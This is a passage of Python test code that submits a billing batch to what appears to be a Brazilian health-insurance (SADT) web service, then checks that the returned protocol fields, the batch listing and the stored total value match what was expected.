    numero = accepted(send(client, lot("BO1", 1, SADT, "4.03.00", *changes)))
    bo = make_client(server_url)[0].service
    protocolo = bo.obterProtocolo(numeroProtocolo=numero)
    assert {name: shown(protocolo, name) for name in expected} == expected
    (listed,) = bo.listarLotes(desde=EPOCH).lote
    assert listed.numeroProtocolo == numero
    assert listed.valorTotalInformado == stored(gw, numero).total_value
